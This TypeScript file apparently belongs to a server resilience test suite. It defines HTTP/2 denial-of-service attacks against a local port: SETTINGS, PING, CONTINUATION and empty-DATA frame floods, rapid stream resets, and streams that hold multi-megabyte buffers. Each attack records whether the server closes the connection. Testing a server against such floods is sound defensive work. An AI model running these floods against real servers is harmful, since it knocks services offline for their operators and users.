import { constants } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';

import type { Attack } from './attack.ts';
import { open, openHttp2 } from './clients.ts';

const holdMs = 3000;
const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const types = { data: 0, headers: 1, settings: 4, ping: 6, continuation: 9 } as const;
const requestHead = {
  ':method': 'POST',
  ':path': '/mutate',
  'content-type': 'application/json',
  'content-length': 8_000_000,
};

function frame(type: keyof typeof types, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = types[type];
  header[4] = flags;
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

/** `:method: POST`, `:scheme: https`, `:path: /` as HPACK indexes. */
const indexedHead = Buffer.from([0x83, 0x87, 0x84]);

/** A connection that sends the frames over and over, at most `count` times. */
function flood(name: string, first: readonly Buffer[], repeated: Buffer, count: number): Attack {
  return {
    name,
    isReview: false,
    run: async (port, signal) => {
      const socket = await open(port, 'h2');
      socket.write(Buffer.concat([preface, frame('settings', 0, 0), ...first]));
      const batch = Buffer.concat(Array.from({ length: 100 }, () => repeated));
      let sent = 0;
      for (; sent < count && socket.writable && !signal.aborted; sent += 100) {
        if (!socket.write(batch)) await Promise.race([drained(socket), sleep(holdMs)]);
      }
      await sleep(100);
      const isClosed = socket.destroyed || socket.readableEnded;
      socket.destroy();
      return isClosed ? `closed after ${sent}` : `${sent} taken`;
    },
  };
}

function drained(socket: NodeJS.EventEmitter): Promise<void> {
  return new Promise((resolve) => {
    socket.once('drain', resolve).once('close', resolve);
  });
}

/** What can be done to HTTP/2 alone. */
export const hostileHttp2: readonly Attack[] = [
  flood('SETTINGS, 20,000 of them', [], frame('settings', 0, 0), 20_000),
  flood('PING, 20,000 of them', [], frame('ping', 0, 0, Buffer.alloc(8)), 20_000),
  flood(
    'CONTINUATION without an end',
    [frame('headers', 0, 1, indexedHead)],
    frame('continuation', 0, 1, Buffer.from([0x40, 1, 0x61, 1, 0x62])),
    20_000,
  ),
  flood(
    'DATA without a byte, 20,000 of it',
    [frame('headers', 4, 1, indexedHead)],
    frame('data', 0, 1),
    20_000,
  ),
  {
    name: 'requests that are reset at once, 10,000',
    isReview: false,
    run: async (port, signal) => {
      const session = openHttp2(port);
      let sent = 0;
      for (; sent < 10_000 && !session.destroyed && !session.closed && !signal.aborted; sent++) {
        session
          .request(requestHead)
          .on('error', () => undefined)
          .close(constants.NGHTTP2_CANCEL);
        if (sent % 50 === 0) await sleep(1);
      }
      await sleep(100);
      const isClosed = session.destroyed || session.closed;
      session.destroy();
      return isClosed ? `closed after ${sent}` : `${sent} taken`;
    },
  },
  {
    name: '2,000 streams that hold 64 KB each',
    isReview: false,
    run: async (port) => {
      const sessions = Array.from({ length: 20 }, () => openHttp2(port));
      const streams = sessions.flatMap((session) =>
        Array.from({ length: 100 }, () => {
          const stream = session.request(requestHead);
          stream.on('error', () => undefined).write(Buffer.alloc(64_000, ' '));
          return stream;
        }),
      );
      await sleep(holdMs);
      const closed = streams.filter((stream) => stream.closed).length;
      for (const session of sessions) session.destroy();
      return `${closed} of ${streams.length} closed`;
    },
  },
  {
    name: '60 streams that hold 7.9 MB each',
    isReview: false,
    run: async (port) => {
      const sessions = Array.from({ length: 6 }, () => openHttp2(port));
      const streams = sessions.flatMap((session) =>
        Array.from({ length: 10 }, () => {
          const stream = session.request(requestHead);
          stream.on('error', () => undefined).write(Buffer.alloc(7_900_000, ' '));
          return stream;
        }),
      );
      await sleep(holdMs);
      const closed = streams.filter((stream) => stream.closed).length;
      for (const session of sessions) session.destroy();
      return `${closed} of ${streams.length} closed`;
    },
  },
];
